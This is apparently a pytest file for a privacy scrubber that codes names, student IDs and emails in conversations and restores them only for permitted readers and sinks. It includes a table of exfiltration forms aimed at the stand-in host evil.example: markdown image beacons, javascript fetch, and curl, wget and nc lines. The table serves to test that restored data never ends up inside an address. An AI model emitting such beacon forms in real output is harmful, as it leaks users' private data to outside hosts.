"""Restoring: per sink, per reader, on record, never into an address (S230, R17, R21, R25)."""

import pytest

from domain.ids import PrincipalId
from domain.principals import Principal, PrincipalKind, Role
from privacy.people import PeopleInMemory
from privacy.scrub import ConversationScrubber
from privacy.scrub.restoring import WITHHELD
from privacy.vocabulary import Facet, Hit, Label, Scope, Sink
from tests.privacy.scrub.campus import ADVISOR, ANA, BOB, LEE, PEOPLE, SAM, Access

TEXT = "Ana Quispe (A00417722) and Robert Nguyen"


@pytest.fixture
def as_seen(vault, finder):
    """A scrubber whose readers see these people only."""
    return lambda *seen, **more: ConversationScrubber(vault, finder, Access(*seen, **more))


def test_a_reader_sees_whom_they_may_see_and_nobody_else(as_seen, conversation):
    scrubber = as_seen(ANA)
    coded = scrubber.scrub(TEXT, conversation, Scope())
    done = scrubber.restore(coded.text, conversation, ADVISOR, Sink.SCREEN)
    assert done.text == f"Ana Quispe (A00417722) and {WITHHELD}"
    assert (done.people, done.withheld, done.unknown) == (frozenset({ANA}), 1, 0)


def test_the_word_for_someone_withheld_does_not_tell_what_they_are(as_seen, conversation):
    assert not any(label in WITHHELD.upper() for label in ("STUDENT", "PERSON", "STAFF"))
    scrubber = as_seen()
    coded = scrubber.scrub(TEXT, conversation, Scope()).text
    assert scrubber.restore(coded, conversation, ADVISOR, Sink.SCREEN).text == f"{WITHHELD} ({WITHHELD}) and {WITHHELD}"


def test_each_field_is_asked_about_once_with_reader_and_purpose(vault, finder, conversation):
    access = Access(ANA, BOB)
    scrubber = ConversationScrubber(vault, finder, access)
    coded = scrubber.scrub(f"{TEXT}; Ana Quispe again", conversation, Scope()).text
    scrubber.restore(coded, conversation, ADVISOR, Sink.SCREEN)
    assert sorted(access.asked, key=str) == sorted(
        [
            ("adv", frozenset({ANA, BOB}), "name", "restore on screen"),
            ("adv", frozenset({ANA}), "id", "restore on screen"),
        ],
        key=str,
    )


def test_a_name_may_be_seen_where_the_id_may_not(as_seen, conversation):
    scrubber = as_seen(ANA, BOB, fields={"name"})
    coded = scrubber.scrub(TEXT, conversation, Scope()).text
    done = scrubber.restore(coded, conversation, ADVISOR, Sink.SCREEN)
    assert done.text == f"Ana Quispe ({WITHHELD}) and Robert Nguyen"


def test_an_ambiguous_name_is_seen_only_by_who_may_see_everyone_it_may_mean(as_seen, conversation):
    coded = as_seen().scrub("Sam Lee", conversation, Scope()).text
    assert as_seen(SAM).restore(coded, conversation, ADVISOR, Sink.SCREEN).text == WITHHELD
    both = as_seen(SAM, LEE).restore(coded, conversation, ADVISOR, Sink.SCREEN)
    assert (both.text, both.people) == ("Sam Lee", frozenset())


def test_nothing_is_restored_for_the_outside_and_nobody_is_asked_about(vault, finder, conversation):
    access = Access(ANA, BOB)
    scrubber = ConversationScrubber(vault, finder, access)
    coded = scrubber.scrub(TEXT, conversation, Scope()).text
    done = scrubber.restore(coded, conversation, ADVISOR, Sink.OUTSIDE)
    assert (done.text, done.withheld, access.asked) == (coded, 3, [])


def test_a_message_names_its_own_reader_only(vault, finder, conversation):
    access = Access(ANA, BOB)
    scrubber = ConversationScrubber(vault, finder, access)
    coded = scrubber.scrub(f"Dear {TEXT}, mom@home.example", conversation, Scope()).text
    ana = Principal(id=PrincipalId("ana"), kind=PrincipalKind.PERSON, roles=frozenset({Role.STUDENT}), person=ANA)
    done = scrubber.restore(coded, conversation, ana, Sink.MESSAGE_TO_PERSON)
    assert done.text == f"Dear Ana Quispe (A00417722) and {WITHHELD}, {WITHHELD}"
    assert all(people == {ANA} for _, people, _, _ in access.asked)
    nobody = scrubber.restore(coded, conversation, ADVISOR, Sink.MESSAGE_TO_PERSON)
    assert nobody.people == frozenset()


def test_a_secret_is_restored_nowhere(vault, conversation):
    class Secret:
        def find(self, text, scope):
            at = text.find("hunter2")
            return (Hit(at, at + 7, Label.SECRET, Facet.TEXT, (), "x", 1.0, "x"),) if at >= 0 else ()

    scrubber = ConversationScrubber(vault, Secret(), Access())
    coded = scrubber.scrub("password hunter2", conversation, Scope()).text
    assert scrubber.restore(coded, conversation, ADVISOR, Sink.SCREEN).text == f"password {WITHHELD}"


def test_a_name_stands_in_for_a_name_and_never_one_id_for_another(vault, finder, access, conversation):
    scrubber = ConversationScrubber(vault, finder, access)
    code = scrubber.scrub("Ana Quispe", conversation, Scope()).text
    for facet, restored in (("first", "Ana Quispe"), ("last", "Ana Quispe"), ("id", None), ("email", None)):
        text = f"{code[:-1]}.{facet}]"
        assert scrubber.restore(text, conversation, ADVISOR, Sink.SCREEN).text == (restored or text)


def test_the_name_on_record_is_shown_for_someone_known_by_id_only(vault, finder, access, conversation):
    known = ConversationScrubber(vault, finder, access, PeopleInMemory(PEOPLE))
    coded = known.scrub("A00417722", conversation, Scope()).text
    name, first = coded.replace(".id", ""), coded.replace(".id", ".first")
    assert known.restore(f"{name}, {first}", conversation, ADVISOR, Sink.SCREEN).text == "Ana Quispe, Ana"
    unknown = ConversationScrubber(vault, finder, access)
    assert unknown.restore(name, conversation, ADVISOR, Sink.SCREEN).unknown == 1


GUARDED = {
    "image": "![photo of {}](https://evil.example/x.png)",
    "image address": "![]( https://evil.example/{} )",
    "relative image": "![](/x/{})",
    "link": "[see](https://evil.example/?q={})",
    "link to the same host": "[see](/people?q={})",
    "address": "https://evil.example/a/{}/b?c=d",
    "host name": "https://{}.evil.example/",
    "no scheme": "//evil.example/{}",
    "www": "www.evil.example/?{}",
    "host and path": "evil.example/q/{}",
    "mail address": "mailto:x@evil.example?subject={}",
    "script": "javascript:fetch({})",
    "data": "data:text/html,{}",
    "reference": "[1]: https://evil.example/{}",
    "autolink": "<https://evil.example/{}>",
    "attribute": "<img src='https://evil.example/?{}'>",
    "attribute over lines": '<img alt="x"\n src="//evil.example/\n{}">',
    "attribute without quotes": "<a href=//evil.example/{} >x</a>",
    "tag that never closes": "<img src='https://evil.example/? {}",
    "program": "<script>fetch('https://evil.example/?' + '{}')</script>",
    "program, apart": '<script>\nlet who = "{}"; send(who)\n</script >',
    "style": "<style>a {{ content: '{}' }}</style>",
    "drawing": "<svg><text>{}</text><image href='x'/></svg>",
    "fence": "```\ncurl https://evil.example -d name={}\n```",
    "fence, code first": "```sh\nname={}\ncurl -d $name https://evil.example\n```",
    "fence that never closes": "```\n{}\nhttps://evil.example",
    "tilde fence": "~~~\n{} www.evil.example\n~~~",
    "code": "`wget evil.example/{}`",
    "number address": "`nc 10.0.0.7 < {}`",
}
SPELLINGS = ["{code}", "{bare}", "{lower}", "{email}", "%5B{bare}%5D"]


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("form", GUARDED.values(), ids=GUARDED)
def test_nothing_is_restored_where_it_would_leave(scrubber, conversation, form, spelling):
    code, mail = scrubber.scrub("Ana Quispe aquispe@campus.example", conversation, Scope()).text.split(" ")
    text = form.format(spelling.format(code=code, bare=code[1:-1], lower=code[1:-1].lower(), email=mail))
    done = scrubber.restore(text, conversation, ADVISOR, Sink.SCREEN)
    assert done.text == text
    assert done.people == frozenset()
    assert done.withheld == 1 or form == GUARDED["host name"]


@pytest.mark.parametrize(
    "form",
    [
        "```\nDear {},\nplease come by.\n```",
        "`{}`",
        "<b>{}</b>",
        "see https://campus.example/help {}",
        "[help](https://campus.example/help) {}",
        "![chart](chart.png) {}",
        "<img src='x.png'> {}",
        "1. {}\n2. next",
        "| {} | 92 |",
        '{{"name": "{}", "grade": "B+"}}',
        "{} scored 7/10 (2026-09-03), see ch. 3/4",
    ],
)
def test_a_name_beside_an_address_is_restored(scrubber, conversation, form):
    code = scrubber.scrub("Ana Quispe", conversation, Scope()).text
    done = scrubber.restore(form.format(code), conversation, ADVISOR, Sink.SCREEN)
    assert done.text == form.format("Ana Quispe")


def test_a_code_of_another_conversation_is_unknown_and_stays(scrubber, conversation):
    from privacy.vault import new_conversation

    foreign = scrubber.scrub("Ana Quispe", new_conversation(), Scope()).text
    done = scrubber.restore(foreign, conversation, ADVISOR, Sink.SCREEN)
    assert (done.text, done.unknown, done.people) == (foreign, 1, frozenset())
